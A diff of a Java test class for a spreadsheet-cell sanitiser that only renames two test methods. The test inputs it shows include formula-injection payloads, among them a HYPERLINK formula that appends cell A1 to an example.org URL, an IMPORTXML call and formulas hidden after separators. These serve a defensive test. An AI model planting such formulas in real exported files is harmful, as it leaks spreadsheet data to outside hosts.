@@ -39,7 +39,7 @@ class InertCellTest {
                 "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
                 "=IMPORTXML(\"http://example.org\",\"//a\")"
             })
-    void aTextThatCouldBeginAFormulaBecomesAText(String typed) {
+    void s56ATextThatCouldBeginAFormulaBecomesAText(String typed) {
         assertThat(InertCell.of(typed)).startsWith("'");
         assertThat(InertCell.typed(InertCell.of(typed))).isEqualTo(typed);
     }
@@ -47,7 +47,7 @@ class InertCellTest {
     @ParameterizedTest
     @ValueSource(
             strings = {"Museum;=1+1", "Museum; =1+1", "Museum\t=1+1", "Museum\n@SUM(A1)", "Museum\r\n-1", "a;\"=1"})
-    void aFormulaInAPartThatAProgramMaySplitOffIsInertToo(String typed) {
+    void s56AFormulaInAPartThatAProgramMaySplitOffIsInertToo(String typed) {
         assertThat(InertCell.of(typed)).matches("(?s)(Museum|a)([;\t\n]|\r\n?)'.*");
         assertThat(InertCell.typed(InertCell.of(typed))).isEqualTo(typed);
     }
